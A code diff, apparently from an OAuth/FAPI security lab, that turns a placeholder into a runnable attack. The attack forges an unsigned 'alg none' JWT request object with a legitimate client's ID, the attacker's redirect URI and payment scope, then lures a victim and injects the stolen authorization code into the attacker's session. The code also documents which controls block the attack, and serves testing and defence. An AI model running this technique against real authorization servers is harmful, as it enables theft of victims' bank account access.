@@ -1,17 +1,69 @@
-"""unsigned-request-object: a catalog attack (attacks.md §3) the lab cannot run yet.
+"""unsigned-request-object: a request object with `alg: none` naming the attacker's redirect_uri.
 
-The lab lacks the mechanism named in `reason`. Until it has it, the attack is listed
-(docs, `fapi-lab attack --list`, the matrix, each blocker's page) but never faked;
-implementing it turns this Pending entry into an Attack with its run, here.
+attacks.md §3 E (A1). The attacker writes FinLens's authorization request itself as an
+Unsecured JWT (RFC 7519 §6: alg none, empty signature): client_id=tpp, its own site's
+redirect_uri, the payment scope. An AS that lets the JWT pick its algorithm takes it at
+its word (RFC 8725 §3.1; RFC 9101 §6.2 wants it verified). The lured victim opens
+/authorize?client_id=tpp&request=…, consents on a page naming FinLens; the code lands on
+the attacker's site and is injected into the attacker's own FinLens session.
 """
 
 from __future__ import annotations
 
-from attacker.attacks import Pending
+import json
+from urllib.parse import urlencode
 
-ATTACK = Pending(
-    id="unsigned-request-object", attacker="A1",
+from attacker import fixtures
+from attacker import frontchannel as fc
+from attacker.attack_context import AttackContext
+from attacker.attacks import Attack
+from attacker.inject import code_lured_to_site, inject_code
+from lab.authserver.clients import TPP_CLIENT_ID
+from lab.jose import b64
+
+STEAL_PATH = "/callback"   # FinLens's path: the prefix the legacy AS compares
+
+
+def unsigned(claims: dict[str, str]) -> str:
+    """RFC 7519 §6.1: header {"alg":"none"}, the claims, and an empty signature."""
+    part = [b64.encode(json.dumps(x, separators=(",", ":")).encode())
+            for x in ({"alg": "none"}, claims)]
+    return f"{part[0]}.{part[1]}."
+
+
+def run(ctx: AttackContext) -> None:
+    fx = fixtures.ensure_running(ctx)
+    redirect_uri = fx.site + STEAL_PATH
+    request = unsigned({"response_type": "code", "client_id": TPP_CLIENT_ID,
+                        "redirect_uri": redirect_uri,
+                        "scope": f"{fc.FINLENS_SCOPE} {fc.PAYMENT_SCOPE}",
+                        "state": "unsigned"})
+    url = ctx.url("as", "/authorize") + "?" + urlencode(
+        {"client_id": TPP_CLIENT_ID, "request": request})
+    got = code_lured_to_site(
+        ctx, fx, redirect_uri, STEAL_PATH, url=url,
+        built=f"writes an unsigned request object (alg none) for FinLens's client_id with "
+              f"redirect_uri={redirect_uri} and the payment scope, and mails the victim a "
+              f"link to /authorize?client_id=tpp&request=…",
+        missing="no code reached the attacker's site",
+        read="reads the victim's code from its own site's log")
+    inject_code(ctx, got["code"], got["victim"], iss=got.get("iss"),
+                source="its site received")
+
+
+ATTACK = Attack(
+    id="unsigned-request-object", attacker="A1", legs=("own",), victim="live",
     title="Request object with `alg: none`",
     blocked_by=("jar_required", "alg_allow_list", "par_required", "exact_redirect_uri"),
-    reason="needs request objects at the authorization endpoint (JAR, RFC 9101): not built yet",
+    premise="Runs the attacker site; knows FinLens's client_id and redirect URI (public); the "
+            "victim follows its link and consents on a page that names FinLens.",
+    goal="the attacker's FinLens account shows the victim's accounts", run=run,
+    refs=("RFC 9101 §6.2", "RFC 8725 §3.1", "RFC 7519 §6", "F1P2 §5.2.2"),
+    also_blocked_by={
+        "pkce_required": "the forged request carries no code_challenge (the attacker cannot "
+                         "know the verifier of the FinLens session it injects into)",
+        "code_client_binding":
+            "the code was issued for the attacker's redirect_uri and FinLens redeems it with "
+            "its own, which RFC 6749 §4.1.3 requires to be identical",
+    },
 )
